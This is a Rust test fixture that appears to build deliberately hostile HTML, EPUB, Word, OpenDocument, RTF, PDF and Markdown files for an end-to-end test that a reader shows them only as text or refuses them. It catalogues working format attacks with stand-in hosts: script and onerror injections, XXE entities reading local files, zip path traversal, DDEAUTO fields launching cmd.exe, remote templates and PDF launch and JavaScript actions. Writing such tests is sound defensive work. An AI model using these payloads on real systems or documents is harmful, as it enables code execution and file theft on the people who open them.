//! The files: each does what its format has to offer to run something, to load something or to be let in somewhere.
//! `ADDRESS` and `/FILE` become the trap's own.

use gloss_e2e::Trap;
use gloss_sources::pdf::Font::{Bold, Plain};
use gloss_sources::pdf::{LEFT, Pdf, wrap};
use gloss_sources::{archive, docx, epub, mhtml, odt};

/// Stands in every text as words, to be read, marked and exported: what a browser, a note app or a spreadsheet would run.
pub(crate) const SHOWN: &str = "Shown: <script>window.ran = 1</script> <img src=http://ADDRESS/shown onerror=window.ran=1> \
    <% tp.system() %> {{ 7 * 7 }} ![x](http://ADDRESS/shown.png) [[x]] ${x} =cmd()";

/// Long enough to be believed as the main text of a page.
const PROSE: &str = "The two ministers met in Vladivostok, spoke for an hour, and agreed on grain, coal and labour; \
    neither side published the text. Officials said later that the talks, the third this year, would be followed by \
    a visit in spring, when a new bridge across the Tumen River opens to freight, and then to passengers.";

/// A name that would be a picture if anybody took it for markup.
const NAME: &str = "<img src=http://ADDRESS/name onerror=window.ran=1>";

/// A file that should be read as words and nothing else.
pub(crate) struct Hostile {
    /// Its name.
    pub(crate) name: &'static str,
    /// How its title begins.
    pub(crate) title: &'static str,
    /// Its contents.
    pub(crate) bytes: Vec<u8>,
    /// Whether its text is what the file shows; a plain text shows its markup.
    pub(crate) drawn: bool,
}

/// One of each format.
pub(crate) fn hostile(trap: &Trap) -> Vec<Hostile> {
    let drawn = |name, title, bytes| Hostile { name, title, bytes, drawn: true };
    let page = trap.baited(&page("Hostile page"));
    vec![
        drawn("page.html", "Hostile page", page.clone().into_bytes()),
        drawn("saved.mhtml", "Hostile saved page", saved(trap)),
        drawn("book.epub", "Hostile book", book(trap)),
        drawn("word.docx", "Hostile Word document", word(trap)),
        drawn("open.odt", "Hostile OpenDocument text", open(trap)),
        drawn("rich.rtf", "Hostile rich text", trap.baited(&rich()).into_bytes()),
        drawn("paper.pdf", "Hostile paper", paper(trap)),
        drawn("notes.md", "Hostile Markdown", trap.baited(&markdown()).into_bytes()),
        Hostile {
            name: "page.txt",
            title: "Hostile plain text",
            bytes: format!("Hostile plain text\n\n{}\n\n{page}", trap.baited(SHOWN)).into_bytes(),
            drawn: false,
        },
    ]
}

/// Files that are refused, each with what is said about it.
pub(crate) fn refused(trap: &Trap) -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let main = format!("<w:document {}><w:body>{}</w:body></w:document>", docx::WORD, docx::paragraph("&x;"));
    let entity = trap.baited(&format!(
        "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///FILE\"><!ENTITY % y SYSTEM \"http://ADDRESS/dtd\"> %y;]>{main}"
    ));
    let outside = archive(&[("word/document.xml", "<a/>"), ("../../outside.html", "<script>window.ran = 1</script>")]);
    let entities = epub::chapter("<p>&x;</p>")
        .replace("<!DOCTYPE html>", &trap.baited("<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///FILE'>]>"));
    let book = epub::book_with("", "", &[("OPS/1.xhtml", &entities)], &[("1.xhtml", "")]);
    vec![
        ("entity.docx", archive(&[("word/document.xml", &entity)]), "The file is not safe to read"),
        ("outside.docx", outside, "The file is not safe to read"),
        ("entity.epub", book, "The file is not safe to read"),
    ]
}

/// As words in markup.
fn words(text: &str) -> String {
    text.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;")
}

fn page(title: &str) -> String {
    let (shown, name) = (words(SHOWN), words(NAME));
    format!(
        r##"<!doctype html><html manifest="http://ADDRESS/manifest" lang=en><head><title>{title} {name}</title>
<base href="http://ADDRESS/base/"><meta http-equiv=refresh content="0;url=http://ADDRESS/refresh">
<meta http-equiv=Content-Security-Policy content="default-src *; script-src * 'unsafe-inline'">
<meta property="og:url" content="javascript:window.ran=1"><meta name=author content="{name}">
<link rel=stylesheet href="http://ADDRESS/style.css"><link rel=preload as=script href="http://ADDRESS/preload.js">
<link rel=icon href="http://ADDRESS/icon"><link rel=dns-prefetch href="http://ADDRESS"><link rel=import href="file:///FILE">
<script type=importmap>{{"imports":{{"x":"http://ADDRESS/x.js"}}}}</script><script type=module>import "x"; window.ran = 1</script>
<script src="http://ADDRESS/script.js"></script><script>window.ran = 1; fetch("http://ADDRESS/fetch")</script>
<style>@import url(http://ADDRESS/import.css); @font-face {{ font-family: f; src: url(http://ADDRESS/font) }}
body {{ background: url(http://ADDRESS/background); font-family: f }}</style></head>
<body onload="window.ran=1" background="http://ADDRESS/body"><article><h1>{title} {name}</h1><h2 onclick="window.ran=1">First part</h2>
<p onmouseover="window.ran=1" style="background:url(http://ADDRESS/paragraph)">{PROSE}</p><p>{shown}</p>
<p>{PROSE} <a href="javascript:window.ran=1">a script</a>, <a href="data:text/html,&lt;script>window.ran=1&lt;/script>">data</a>,
<a href="file:///FILE">a file</a>, <a href="http://ADDRESS/link" ping="http://ADDRESS/ping">an address</a>.<a href="#n" id=c>1</a></p>
<img src="http://ADDRESS/img" srcset="http://ADDRESS/set 2x" onerror="window.ran=1" alt="a picture"><img src="file:///FILE">
<picture><source srcset="http://ADDRESS/source"><img src=x></picture><iframe src="http://ADDRESS/frame"></iframe><iframe src="file:///FILE"></iframe>
<iframe srcdoc="&lt;script>top.ran=1&lt;/script>"></iframe><object data="http://ADDRESS/object"></object><embed src="file:///FILE">
<svg onload="window.ran=1"><script>window.ran=1</script><image href="http://ADDRESS/svg"/><use href="http://ADDRESS/use#x"/>
<foreignObject><img src="http://ADDRESS/foreign"></foreignObject><animate onbegin="window.ran=1" attributeName=x dur=1s /></svg>
<math><mtext><style><img src="http://ADDRESS/math" onerror="window.ran=1"></style></mtext></math>
<video src="http://ADDRESS/video" poster="http://ADDRESS/poster" autoplay><track src="http://ADDRESS/track"></video><audio src="http://ADDRESS/audio" autoplay></audio>
<form action="http://ADDRESS/form"><input autofocus onfocus="window.ran=1"><input type=image src="http://ADDRESS/input"><button formaction="javascript:window.ran=1">Send</button></form>
<details open ontoggle="window.ran=1"><summary>More</summary>more</details><template><script>window.ran=1</script></template>
<noscript><img src="http://ADDRESS/noscript"></noscript><x-y onanimationstart="window.ran=1"></x-y>
<table background="http://ADDRESS/table"><tr><td>Grain</td><td>40</td></tr><tr><td>Coal</td><td>12</td></tr></table>
<h2>Second part</h2><p>{PROSE}</p><ol><li id=n><a href="#c">1</a> A note.</li></ol></article>
<script>document.write('<img src="http://ADDRESS/written">')</script></body></html>"##
    )
}

/// A page with parts that stand in for what it loads, and a frame.
fn saved(trap: &Trap) -> Vec<u8> {
    let page = trap.baited(&page("Hostile saved page"));
    let whole = String::from_utf8(mhtml::saved("quoted-printable", "utf-8", &page)).expect("a text");
    let script = "------Part--x\r\nContent-Type: text/javascript\r\nContent-Location: http://ADDRESS/script.js\r\n\r\nwindow.ran = 1\r\n";
    let with_script = whole.replacen("------Part--x\r\n", &format!("{}------Part--x\r\n", trap.baited(script)), 1);
    with_script.replace("https://example.org/news/1", &trap.baited("http://ADDRESS/news")).into_bytes()
}

fn book(trap: &Trap) -> Vec<u8> {
    let name = words(NAME);
    let body = format!(
        r##"<h1>Hostile book</h1><script>window.ran = 1</script><h2 onclick="window.ran=1">First part</h2><p>{}</p>
        <p>{PROSE} <a href="javascript:window.ran=1">run</a> <a href="../../../..//FILE">out</a> <a href="http://ADDRESS/link">an address</a>
        <a epub:type="noteref" href="#n">1</a></p><img src="http://ADDRESS/img" onerror="window.ran=1"/><iframe src="http://ADDRESS/frame"/>
        <object data="http://ADDRESS/object"/><svg xmlns="http://www.w3.org/2000/svg" onload="window.ran=1"><script>window.ran=1</script></svg>
        <epub:trigger action="show" ref="x"/><h2>Second part</h2><p>{PROSE}</p><aside epub:type="footnote" id="n"><p>1 A note.</p></aside>"##,
        words(SHOWN)
    );
    let metadata = format!(
        r#"<dc:title>Hostile book {name}</dc:title><dc:creator>{name}</dc:creator><dc:source>javascript:window.ran=1</dc:source>
        <link rel="record" href="http://ADDRESS/record"/>"#
    );
    let items = r#"<item id="script" href="x.js" media-type="text/javascript"/><item id="far" href="http://ADDRESS/far.xhtml" media-type="application/xhtml+xml" properties="remote-resources scripted"/>
        <item id="out" href="../../../..//FILE" media-type="application/xhtml+xml"/><item id="style" href="x.css" media-type="text/css"/>"#;
    let package = epub::package(&metadata, items, &[("1.xhtml", "")])
        .replace("</spine>", r#"<itemref idref="far"/><itemref idref="out"/></spine>"#);
    let (package, body) = (trap.baited(&package), trap.baited(&body));
    let style = trap.baited("@import url(http://ADDRESS/import.css);");
    let parts = [("OPS/book.opf", package.as_str()), ("OPS/x.js", "window.ran = 1"), ("OPS/x.css", &style)];
    epub::book_with("", "", &parts, &[("1.xhtml", &body)])
}

fn word(trap: &Trap) -> Vec<u8> {
    let field = |instruction: &str| {
        let mark = |kind: &str| format!(r#"<w:r><w:fldChar w:fldCharType="{kind}" w:dirty="true"/></w:r>"#);
        let instruction = format!("<w:r><w:instrText>{instruction}</w:instrText></w:r>");
        format!("<w:p>{}{instruction}{}{}{}</w:p>", mark("begin"), mark("separate"), docx::run("A field."), mark("end"))
    };
    let note = r#"<w:r><w:footnoteReference w:id="4"/></w:r>"#;
    let body = [
        docx::styled("Titel", &docx::run(&words(&format!("Hostile Word document {NAME}")))),
        docx::styled("berschrift1", &docx::run("First part")),
        docx::paragraph(&words(SHOWN)),
        format!(r#"<w:p><w:hyperlink r:id="web">{}</w:hyperlink>{note}</w:p>"#, docx::run("an address")),
        field("INCLUDETEXT \"/FILE\""),
        field("INCLUDEPICTURE \"http://ADDRESS/picture\" \\d"),
        field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\""),
        field("HYPERLINK \"javascript:window.ran=1\""),
        r#"<w:p><w:r><w:drawing><a:blip xmlns:a="http://a" r:link="pic"/></w:drawing><w:object><o:OLEObject xmlns:o="urn:o" Type="Link" ProgID="Package" r:id="ole" UpdateMode="Always"/></w:object></w:r></w:p>"#.into(),
        r#"<w:altChunk r:id="chunk"/><w:p><w:subDoc r:id="sub"/></w:p>"#.into(),
        docx::styled("berschrift1", &docx::run("Second part")),
        docx::paragraph(PROSE),
    ];
    let outside = |id: &str, kind: &str, target: &str| {
        format!(r#"<Relationship Id="{id}" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>"#)
    };
    let relations = |all: &[String]| {
        let all = all.concat();
        trap.baited(&format!(
            r#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{all}</Relationships>"#
        ))
    };
    let main = relations(&[
        r#"<Relationship Id="s" Type="http://x/styles" Target="styles.xml"/><Relationship Id="f" Type="http://x/footnotes" Target="footnotes.xml"/>
        <Relationship Id="t" Type="http://x/settings" Target="settings.xml"/>"#
            .into(),
        outside("web", "hyperlink", "http://ADDRESS/link"),
        outside("pic", "image", "http://ADDRESS/image.png"),
        outside("ole", "oleObject", "file:///FILE"),
        outside("chunk", "aFChunk", "http://ADDRESS/chunk.html"),
        outside("sub", "subDocument", "file:///FILE"),
        outside("e", "endnotes", "http://ADDRESS/endnotes.xml"),
    ]);
    let template = relations(&[outside("r", "attachedTemplate", "http://ADDRESS/template.dotm")]);
    let settings = format!(
        r#"<w:settings {}><w:attachedTemplate r:id="r"/><w:updateFields w:val="true"/></w:settings>"#,
        docx::WORD
    );
    docx::docx_with(
        &trap.baited(&body.concat()),
        &[
            ("word/_rels/document.xml.rels", &main),
            ("word/settings.xml", &settings),
            ("word/_rels/settings.xml.rels", &template),
            ("word/vbaProject.bin", "Sub AutoOpen()"),
        ],
    )
}

fn open(trap: &Trap) -> Vec<u8> {
    let body = format!(
        r#"<office:event-listeners><script:event-listener xmlns:script="urn:x" script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners>
        <text:p text:style-name="Title">Hostile OpenDocument text {}</text:p><text:h text:outline-level="1">First part</text:h><text:p>{}</text:p>
        <text:p>{PROSE} <text:a xlink:href="http://ADDRESS/link">an address</text:a> <text:a xlink:href="javascript:window.ran=1">run</text:a>
        <text:a xlink:href="file:///FILE">out</text:a><text:note text:note-class="footnote"><text:note-citation>1</text:note-citation><text:note-body><text:p>A note.</text:p></text:note-body></text:note></text:p>
        <text:p><draw:frame><draw:image xlink:href="http://ADDRESS/img" xlink:actuate="onLoad"/></draw:frame><draw:frame><draw:object xlink:href="file:///FILE"/></draw:frame>
        <draw:frame><draw:plugin xlink:href="http://ADDRESS/plugin"/></draw:frame></text:p>
        <text:section text:name="s"><text:section-source xlink:href="http://ADDRESS/section" text:filter-name="writer8"/><text:p>A section.</text:p></text:section>
        <text:p><text:script xmlns:s="urn:s" s:language="JavaScript">window.ran = 1</text:script><text:dde-connection text:connection-name="x"/></text:p>
        <text:h text:outline-level="1">Second part</text:h><text:p>{PROSE}</text:p>"#,
        words(NAME),
        words(SHOWN)
    );
    let basic =
        r#"<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M">Sub Main</script:module>"#;
    odt::odt_with(
        &trap.baited(&body),
        &[("Basic/Standard/M.xml", basic), ("meta.xml", &format!("<office:document-meta {}/>", odt::OPEN))],
    )
}

fn rich() -> String {
    let literal = |text: &str| text.replace('\\', "\\\\").replace('{', "\\{").replace('}', "\\}");
    format!(
        r#"{{\rtf1\ansi{{\stylesheet{{\s1 heading 1;}}{{\s2 heading 2;}}}}{{\*\template http://ADDRESS/template.dotm}}
\pard\s1 Hostile rich text {}\par\pard\s2 First part\par\pard {}\par
{PROSE}{{\footnote\pard {{\super\chftn}} A note.}} {{\field{{\*\fldinst{{HYPERLINK "http://ADDRESS/link"}}}}{{\fldrslt an address}}}}\par
{{\field{{\*\fldinst{{INCLUDEPICTURE "http://ADDRESS/picture" \\d}}}}{{\fldrslt A picture.}}}}
{{\field{{\*\fldinst{{INCLUDETEXT "/FILE"}}}}{{\fldrslt A text.}}}}{{\field\flddirty{{\*\fldinst{{DDEAUTO cmd "/c calc"}}}}{{\fldrslt An answer.}}}}
{{\field{{\*\fldinst{{HYPERLINK "javascript:window.ran=1"}}}}{{\fldrslt A script.}}}}\par
{{\object\objautlink\objupdate{{\*\objclass Package}}{{\*\objdata 0105000002000000}}{{\result An object.}}}}
{{\object\objhtml{{\*\objdata 3c7363726970743e}}}}{{\pict\wmetafile8 0100}}{{\*\htmltag <script>window.ran=1</script>}}\par
\pard\s2 Second part\par\pard {PROSE}\par}}"#,
        literal(NAME),
        literal(SHOWN)
    )
}

fn paper(trap: &Trap) -> Vec<u8> {
    let action = |kind: &str, more: &str| format!("<< /S /{kind} {more} >>");
    let script = action("JavaScript", "/JS (app.launchURL\\('http://ADDRESS/js'\\))");
    let link = |action: &str| format!("<< /Type /Annot /Subtype /Link /Rect [0 0 600 700] /A {action} >>");
    let mut pdf = Pdf::default().page();
    pdf.info = trap.baited("/Title (Hostile paper <img src=http://ADDRESS/name onerror=window.ran=1>) /Author (<script>window.ran=1</script>)");
    pdf.catalogue = trap.baited(&format!(
        "/OpenAction {script} /AA << /WC {script} >> /Names << /JavaScript << /Names [(x) {script}] >> \
             /EmbeddedFiles << /Names [(x.html) << /Type /Filespec /F (/FILE) /EF << /F 99 0 R >> >>] >> >> \
             /AcroForm << /XFA (<xdp><script>window.ran=1</script></xdp>) /Fields [] /NeedAppearances true >> \
             /URI << /Base (http://ADDRESS/base) >>"
    ));
    pdf.more = trap.baited(&format!(
        "/AA << /O {script} >> /Annots [ {} {} {} {} ]",
        link(&action("URI", "/URI (http://ADDRESS/link)")),
        link(&action("Launch", "/F (/FILE)")),
        link(&action("GoToR", "/F << /FS /URL /F (http://ADDRESS/remote.pdf) >> /D [0 /Fit]")),
        link(&action("SubmitForm", "/F (http://ADDRESS/submit)")),
    ));
    pdf.put(LEFT, 740.0, 20.0, Bold, "Hostile paper");
    pdf.put(LEFT, 700.0, 14.0, Bold, "First part");
    let y = pdf.lines(LEFT, 680.0, &wrap(PROSE, 80));
    let y = pdf.lines(LEFT, y - 12.0, &wrap(&trap.baited(SHOWN), 80));
    pdf.put(LEFT, y - 16.0, 14.0, Bold, "Second part");
    let y = pdf.lines(LEFT, y - 36.0, &wrap(PROSE, 80));
    pdf.put(LEFT, y - 12.0, 10.0, Plain, "It ends with an address.");
    pdf.bytes()
}

fn markdown() -> String {
    format!(
        r#"---
title: "Hostile Markdown {NAME}"
author: "<script>window.ran=1</script>"
url: javascript:window.ran=1
---

# Hostile Markdown

## First part

{}

<script>window.ran = 1</script>

<img src="http://ADDRESS/img" onerror="window.ran=1"><iframe src="file:///FILE"></iframe>

{PROSE} [a script](javascript:window.ran=1), [data](data:text/html,x), [a file](file:///FILE), [an address](http://ADDRESS/link),
![a picture](http://ADDRESS/picture.png) ![another][far] <http://ADDRESS/auto> and http://ADDRESS/bare.[^1]

[far]: http://ADDRESS/far.png
[^1]: A note.

```dataviewjs
window.ran = 1
```

| Grain | 40 |
| --- | --- |
| <svg onload=window.ran=1> | 12 |

## Second part

{PROSE}
"#,
        SHOWN.replace("![x]", "\\![x\\]")
    )
}
